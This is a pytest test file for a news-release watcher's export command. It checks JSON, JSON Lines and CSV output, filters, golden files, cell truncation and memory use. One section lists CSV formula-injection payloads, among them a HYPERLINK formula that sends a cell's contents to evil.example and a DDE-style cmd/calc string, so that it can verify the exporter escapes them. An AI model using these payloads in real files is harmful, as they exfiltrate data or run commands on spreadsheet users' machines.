"""`watcher export`: releases with their versions and changes as JSON, JSON Lines and CSV, on
both engines; golden files of a fixed history; a CSV a spreadsheet opens safely (formulas
escaped, cells cut at 32,767 characters, a BOM) with one row per version; the filters; and
memory that stays flat at 10,000 releases."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from tests.helpers import GOLDEN, ROOT, RUSSIA, run_watcher, wordpress_source, write_config
from tests.sim.wordpress import JOINT_STATEMENT, SimWordPress
from watcher.app import App
from watcher.detect import detect, missing
from watcher.export import CELL_LIMIT, CSV_COLUMNS, WRITERS, spreadsheet_cell, write_csv
from watcher.models import Attachment, ExportFilter, Origin, ReleaseSnapshot
from watcher.store import Store
from watcher.store.tables import CHANGE, RELEASE, VERSION
from watcher.text import content_hash

T0 = datetime(2026, 5, 1, 9, 0, tzinfo=UTC)


def exported(store: Store, format_name: str, **wanted: Any) -> str:
    out = io.StringIO(newline="")
    releases = store.exported_releases(ExportFilter(**wanted))
    WRITERS[format_name](releases, out)
    return out.getvalue()


def csv_records(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# -- a history made by the real pipeline -----------------------------------------------------


@dataclass
class History:
    app: App
    site: SimWordPress
    russia: int  # edited once
    statement: int  # links a PDF
    gone: int  # removed


@pytest.fixture
def history(site: SimWordPress, make_app: Callable[..., App]) -> History:
    russia = site.add_post("ASEAN-Russia consultations", "<p>The Russian Federation met ASEAN.</p>")
    statement = site.add_post(
        "Joint statement", f'<p>Adopted.</p><p><a href="{JOINT_STATEMENT}">Statement</a></p>'
    )
    gone = site.add_post("Trade ministers meet", "<p>They met in Jakarta.</p>")
    app = make_app([wordpress_source(site)], topics=RUSSIA)
    app.prepare()
    app.check()
    site.edit_post(russia, content="<p>The Russian Federation met ASEAN in Moscow.</p>")
    app.check()
    site.trash_post(gone)
    app.check()
    app.check()  # missing twice: removed
    return History(app, site, russia, statement, gone)


def by_key(releases: list[dict[str, Any]], post: int) -> dict[str, Any]:
    [found] = [r for r in releases if r["key"] == f"wp:{post}"]
    return found


@pytest.mark.databases
def test_json_carries_every_version_and_change_and_jsonl_the_same_a_line_each(
    history: History,
) -> None:
    store = history.app.store
    releases = json.loads(exported(store, "json"))
    assert [r["id"] for r in releases] == sorted(r["id"] for r in releases)  # in stored order
    assert len(releases) == 3

    russia = by_key(releases, history.russia)
    assert [v["number"] for v in russia["versions"]] == [1, 2]
    assert russia["versions"][1]["text"] == "The Russian Federation met ASEAN in Moscow."
    assert [(c["kind"], c["version"], c["baseline"]) for c in russia["changes"]] == [
        ("new", 1, True),  # the first check's: kept, never sent
        ("edited", 2, False),
    ]
    edit = russia["changes"][1]
    assert edit["summary"] == "1 paragraph edited"
    assert "+The Russian Federation met ASEAN in Moscow." in edit["diff"]
    assert russia["topics"] == {
        "russia": ["Russia", "Russian Federation", "Russian", "ASEAN-Russia"]
    }
    assert russia["status"] == "active" and russia["canonical"].endswith(
        "/asean-russia-consultations"
    )
    for field in ("published", "first_seen", "last_seen", "last_changed"):
        assert datetime.fromisoformat(russia[field]).tzinfo is not None
    version = russia["versions"][1]
    assert set(version) == {
        "number", "observed_at", "title", "published", "origin", "content_hash", "text",
        "attachments",
    }  # fmt: skip
    assert len(version["content_hash"]) == 32

    [pdf] = by_key(releases, history.statement)["versions"][-1]["attachments"]
    assert pdf["label"] == "Statement" and pdf["url"].endswith(JOINT_STATEMENT)
    assert "Joint Statement" in pdf["text"]

    gone = by_key(releases, history.gone)
    assert gone["status"] == "removed"
    assert [(c["kind"], c["version"]) for c in gone["changes"]] == [("new", 1), ("removed", None)]

    lines = exported(store, "jsonl").splitlines()
    assert [json.loads(line) for line in lines] == releases


@pytest.mark.databases
def test_csv_has_one_row_per_version_that_python_reads_back(history: History) -> None:
    text = exported(history.app.store, "csv")
    rows = csv_records(text)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert text.splitlines()[0] == "\ufeff" + ",".join(
        f'"{c}"' for c in CSV_COLUMNS
    )  # every cell quoted
    assert len(rows) == 4  # 2 versions of the edited release, 1 of each other
    russia = [r for r in rows if r["key"] == f"wp:{history.russia}"]
    assert [(r["version"], r["change"], r["baseline"], r["summary"]) for r in russia] == [
        ("1", "new", "true", ""),
        ("2", "edited", "false", "1 paragraph edited"),
    ]
    assert russia[0]["text"] == "The Russian Federation met ASEAN."
    assert russia[1]["title"] == russia[1]["version_title"] == "ASEAN-Russia consultations"
    assert russia[1]["topics"] == "russia"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", russia[1]["observed_at"])
    [statement] = [r for r in rows if r["key"] == f"wp:{history.statement}"]
    assert statement["attachments"] == f"Statement <{history.site.url}{JOINT_STATEMENT}>"
    assert statement["attachment_texts"].startswith("Attachment: Statement\nJoint Statement")
    [gone] = [r for r in rows if r["key"] == f"wp:{history.gone}"]
    assert gone["status"] == "removed" and gone["version"] == "1"


@pytest.mark.databases
def test_filters_by_source_topic_and_day_of_a_change(history: History) -> None:
    store = history.app.store

    def keys(**wanted: Any) -> list[str]:
        return [r["key"] for r in json.loads(exported(store, "json", **wanted))]

    everything = keys()
    assert keys(source="asean") == everything
    assert keys(source="elsewhere") == []
    assert keys(topic="russia") == [f"wp:{history.russia}"]
    assert keys(topic="nobody") == []
    # Every release changed today (the baseline, the edit, the removal): back-date the first
    # check's changes, and only the releases changed since then remain, with their whole past.
    with store.engine.begin() as connection:
        connection.execute(sa.update(CHANGE).where(CHANGE.c.kind == "new").values(detected_at=T0))
    tomorrow = datetime.now(UTC) + timedelta(days=1)
    assert sorted(keys(changed_since=T0 + timedelta(days=1))) == [
        f"wp:{history.russia}",
        f"wp:{history.gone}",
    ]
    assert keys(changed_since=T0) == everything
    assert keys(changed_since=tomorrow) == []
    russia = by_key(
        json.loads(exported(store, "json", changed_since=T0 + timedelta(days=1))),
        history.russia,
    )
    assert [c["kind"] for c in russia["changes"]] == ["new", "edited"]  # the whole history
    assert exported(store, "json", source="elsewhere") == "[]\n"


# -- golden files of a fixed history ---------------------------------------------------------


def observe(
    store: Store,
    source_id: int,
    key: str,
    title: str,
    text: str,
    at: datetime,
    *,
    attachments: tuple[Attachment, ...] = (),
    topics: Mapping[str, tuple[str, ...]] | None = None,
) -> None:
    """A reading of the release `key` at `at`, judged and stored as a check does."""
    snapshot = ReleaseSnapshot(
        key=key,
        url=f"https://asean.example/news/{key.removeprefix('wp:')}/",
        title=title,
        published=T0,
        text=text,
        html=f"<p>{text}</p>",
        attachments=attachments,
        content_hash=content_hash(title, text, attachments),
        origin=Origin.API,
    )
    store.record_observed(
        source_id,
        snapshot,
        lambda previous: detect(
            previous.version, previous.status, snapshot, now=at, baseline=False
        ),
        now=at,
        topics=topics,
    )


def fixed_history(store: Store) -> None:
    """Two releases of a source: one edited twice, its PDF among the edits; one removed."""
    source_id, _ = store.source_view("asean", "wordpress", T0)
    annex = Attachment("https://asean.example/annex.pdf", "Annex", "Tariffs: USD 5 million.")
    russia = {"russia": ("Russia",)}
    title, text = "ASEAN-Russia consultations", "Russia and ASEAN met.\n\nThey agreed on trade."
    observe(store, source_id, "wp:1", title, text, T0, attachments=(annex,), topics=russia)
    observe(store, source_id, "wp:2", "Trade ministers meet", "They met in Jakarta.", T0)
    later = T0 + timedelta(hours=6)
    edited = text.replace("trade", "trade and energy")
    observe(store, source_id, "wp:1", title, edited, later, attachments=(annex,))
    cheaper = Attachment(annex.url, annex.label, "Tariffs: USD 3 million.")
    observe(
        store, source_id, "wp:1", title, edited, later + timedelta(days=1), attachments=(cheaper,)
    )
    for day in (T0 + timedelta(days=2), T0 + timedelta(days=3)):  # missing twice: removed
        store.record_missing(source_id, "wp:2", partial(missing, now=day), day)


def stable(text: str) -> str:
    """The change ids are random: numbered in the order they appear."""
    seen: dict[str, str] = {}
    pattern = r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
    return re.sub(pattern, lambda m: seen.setdefault(m[0], f"change-{len(seen) + 1}"), text)


@pytest.fixture
def fixed_store(store_url: str) -> Iterator[Store]:
    store = Store.open(store_url)
    fixed_history(store)
    try:
        yield store
    finally:
        store.close()


@pytest.mark.databases
def test_golden_csv_and_jsonl_of_a_fixed_history(fixed_store: Store, update_golden: bool) -> None:
    for name, format_name in [("history.csv", "csv"), ("history.jsonl", "jsonl")]:
        # bytes as written: the CSV's rows end in CRLF, its cells' own lines in LF
        actual = stable(exported(fixed_store, format_name)).encode("utf-8")
        path = GOLDEN / "export" / name
        if update_golden:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(actual)
        assert path.exists(), f"no golden file export/{name}: run pytest --update-golden"
        assert actual == path.read_bytes(), name


# -- a CSV a spreadsheet opens safely --------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_becomes_text(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ASEAN = unity", "1+1", " =1", "", "'=quoted already"])
def test_other_cells_are_left_as_they_are(value: str) -> None:
    assert spreadsheet_cell(value) == value


def test_hostile_titles_and_texts_never_start_a_cell_with_a_formula(store_url: str) -> None:
    store = Store.open(store_url)
    try:
        source_id, _ = store.source_view("asean", "wordpress", T0)
        for index, value in enumerate(HOSTILE):
            pdf = Attachment(f"https://asean.example/{index}.pdf", value, value)
            observe(store, source_id, f"wp:{index}", value, value, T0, attachments=(pdf,))
        rows = csv_records(exported(store, "csv"))
        whole = json.loads(exported(store, "json"))
    finally:
        store.close()
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in CSV_COLUMNS:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)
        for column in ("title", "version_title", "text", "attachments"):  # the value first
            assert row[column].startswith("'"), (column, row)
    assert {r["title"] for r in whole} == set(HOSTILE)  # JSON as written: no spreadsheet reads it


@pytest.mark.databases
def test_a_text_over_a_cells_limit_is_cut_in_csv_and_whole_in_json(store_url: str) -> None:
    long = "Paragraph. " * 5000  # 55,000 characters
    wide = "😀" * 20_000  # 20,000 characters, 40,000 UTF-16 units: over the limit as well
    store = Store.open(store_url)
    try:
        source_id, _ = store.source_view("asean", "wordpress", T0)
        observe(store, source_id, "wp:1", "Long", long, T0)
        observe(store, source_id, "wp:2", "Wide", wide, T0)
        rows = csv_records(exported(store, "csv"))
        whole = json.loads(exported(store, "json"))
        lines = [json.loads(line) for line in exported(store, "jsonl").splitlines()]
    finally:
        store.close()
    stored_long = whole[0]["versions"][0]["text"]
    assert len(stored_long) > CELL_LIMIT  # the store keeps it whole, and so do JSON and JSONL
    assert lines[0]["versions"][0]["text"] == stored_long
    assert [r["versions"][0]["text"] for r in whole] == [stored_long, wide]
    for row, full in zip(rows, (stored_long, wide), strict=True):
        cell = row["text"]
        assert len(cell.encode("utf-16-le")) // 2 <= CELL_LIMIT
        marker = re.search(
            r" \[… cut: (\d+) more characters; the JSON export has the whole text\]$", cell
        )
        assert marker is not None, cell[-100:]
        kept = cell[: marker.start()]
        assert full.startswith(kept) and len(kept) + int(marker[1]) == len(full)
    assert len(rows[0]["text"]) == CELL_LIMIT  # as much as fits


def test_the_csv_starts_with_a_byte_order_mark_and_ends_rows_with_crlf() -> None:
    out = io.StringIO(newline="")
    write_csv([], out)
    data = out.getvalue().encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b'"summary"\r\n')


def test_json_lines_keep_a_release_on_one_line_whatever_its_text(store_url: str) -> None:
    breaks = "one\u2028two\u2029three\x85four\nfive\rsix"
    store = Store.open(store_url)
    try:
        source_id, _ = store.source_view("asean", "wordpress", T0)
        observe(store, source_id, "wp:1", "Breaks", breaks, T0)
        text = exported(store, "jsonl")
    finally:
        store.close()
    [line] = text.splitlines()  # str.splitlines breaks at all of these
    assert json.loads(line)["versions"][0]["text"] == breaks


# -- the command -----------------------------------------------------------------------------


@pytest.mark.slow
def test_the_command_writes_a_file_reads_only_and_refuses_what_it_cannot_do(
    tmp_path: Path,
) -> None:
    config = write_config(tmp_path, [], topics=RUSSIA)
    no_database = run_watcher("export", config=config)
    assert no_database.returncode == 1
    assert "no database at" in no_database.stderr and no_database.stdout == ""
    assert not (tmp_path / "state" / "watcher.db").exists()  # never created

    store = Store.open(f"sqlite:///{tmp_path / 'state' / 'watcher.db'}")
    try:
        fixed_history(store)
    finally:
        store.close()
    target = tmp_path / "out" / "history.csv"
    target.parent.mkdir()
    done = run_watcher("export", "--format", "csv", "--output", str(target), config=config)
    assert done.returncode == 0, done.stderr
    assert done.stdout == (f"exported 2 release(s), 4 version(s) and 5 change(s) to {target}\n")
    assert len(csv_records(target.read_text(encoding="utf-8"))) == 4
    assert [p.name for p in target.parent.iterdir()] == ["history.csv"]  # no temporary left

    to_stdout = run_watcher("export", "--format", "jsonl", "--since", "2026-05-03", config=config)
    assert to_stdout.returncode == 0, to_stdout.stderr
    assert [json.loads(line)["key"] for line in to_stdout.stdout.splitlines()] == ["wp:2"]

    for args, message in [
        (["--topic", "nobody"], "no topic named 'nobody' (topics: russia)"),
        (["--source", "nowhere"], "no source named 'nowhere' (sources: none configured)"),
        (["--since", "2026-13-01"], "'2026-13-01' does not match the format '%Y-%m-%d'"),
        (["--format", "xml"], "'xml' is not one of 'json', 'jsonl', 'csv'"),
    ]:
        refused = run_watcher("export", *args, config=config)
        assert refused.returncode == 2 and message in refused.stderr, (args, refused.stderr)
        assert refused.stdout == ""
    unwritable = run_watcher(
        "export", "--output", str(tmp_path / "missing" / "x.json"), config=config
    )
    assert unwritable.returncode == 1
    assert unwritable.stderr.splitlines()[-1] == (
        f"watcher: export: cannot write {tmp_path / 'missing' / 'x.json'}: "
        "No such file or directory"
    )


# -- memory ----------------------------------------------------------------------------------

RELEASES = 10_000
TEXT_SIZE = 6_000  # characters a version: about 60 MB of text in all


def fill(store: Store, releases: int) -> None:
    """`releases` releases of one version each, inserted in bulk (a check would take minutes to
    store them one by one; the export reads the same rows)."""
    source_id, _ = store.source_view("asean", "wordpress", T0)
    with store.engine.begin() as connection:
        for start in range(0, releases, 1000):
            numbers = range(start, min(start + 1000, releases))
            ids = (
                connection.execute(
                    sa.insert(RELEASE).returning(RELEASE.c.id, sort_by_parameter_order=True),
                    [
                        {
                            "source_id": source_id,
                            "key": f"wp:{n}",
                            "canonical": f"https://asean.example/{n}",
                            "url": f"https://asean.example/{n}/",
                            "title": f"Release {n}",
                            "published": T0,
                            "status": "active",
                            "versions": 1,
                            "first_seen": T0,
                            "last_seen": T0,
                            "last_changed": T0,
                            "missing_count": 0,
                            "listed": False,
                        }
                        for n in numbers
                    ],
                )
                .scalars()
                .all()
            )
            version_ids = (
                connection.execute(
                    sa.insert(VERSION).returning(VERSION.c.id, sort_by_parameter_order=True),
                    [
                        {
                            "release_id": release_id,
                            "number": 1,
                            "created_at": T0,
                            "content_hash": f"{release_id:032x}",
                            "title": f"Release {release_id}",
                            "published": T0,
                            "text": f"{release_id:08d} " + "x" * (TEXT_SIZE - 9),
                            "html": "",
                            "attachments": [],
                            "origin": "api",
                        }
                        for release_id in ids
                    ],
                )
                .scalars()
                .all()
            )
            connection.execute(
                sa.insert(CHANGE),
                [
                    {
                        "uid": f"00000000-0000-4000-8000-{version_id:012d}",
                        "source_id": source_id,
                        "release_id": release_id,
                        "version_id": version_id,
                        "kind": "new",
                        "detected_at": T0,
                        "feed_date": T0,
                        "title": "",
                        "url": "",
                        "diff": "",
                        "baseline": True,
                    }
                    for release_id, version_id in zip(ids, version_ids, strict=True)
                ],
            )


MEMORY_BOUND = 20 * 1024 * 1024  # a whole-list export holds the 60 MB of text at once


@pytest.mark.databases
@pytest.mark.slow
@pytest.mark.parametrize("format_name", ["json", "csv"])
def test_memory_stays_flat_at_ten_thousand_releases(
    store_url: str, tmp_path: Path, format_name: str
) -> None:
    store = Store.open(store_url)
    try:
        fill(store, RELEASES)
        target = tmp_path / f"export.{format_name}"
        tracemalloc.start()
        try:
            with target.open("w", encoding="utf-8", newline="") as out:
                written = WRITERS[format_name](store.exported_releases(ExportFilter()), out)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    finally:
        store.close()
    assert (written.releases, written.versions) == (RELEASES, RELEASES)
    assert target.stat().st_size > RELEASES * TEXT_SIZE  # the 60 MB went through
    assert peak < MEMORY_BOUND, f"peak {peak / 1e6:.1f} MB"


# -- the README ------------------------------------------------------------------------------


def fields(value: Any, path: str = "") -> Iterator[str]:
    """Every field of a JSON value, nested ones as `versions[].text`."""
    if isinstance(value, list):
        for item in value:
            yield from fields(item, f"{path}[]")
    elif isinstance(value, dict):
        for key, item in value.items():
            name = f"{path}.{key}" if path else key
            yield name
            if key != "topics":  # its keys are the topics' names
                yield from fields(item, name)


def test_the_readme_documents_every_csv_column_and_json_field(fixed_store: Store) -> None:
    section = (ROOT / "README.md").read_text(encoding="utf-8").split("## Exporting the data")[1]
    section = section.split("\n## ")[0]
    first_cells = [line.split("|")[1] for line in section.splitlines() if line.startswith("| `")]
    documented = {name for cell in first_cells for name in re.findall(r"`([^`]+)`", cell)}
    assert [c for c in CSV_COLUMNS if c not in documented] == []
    released = json.loads(exported(fixed_store, "json"))
    attachments = {f"versions[].attachments[].{k}" for k in ("url", "label", "text")}
    # the attachments' three are named in one line
    named = {name for release in released for name in fields(release)} - attachments
    assert sorted(named - documented) == []
    assert "each with `url`, `label` and `text`" in section
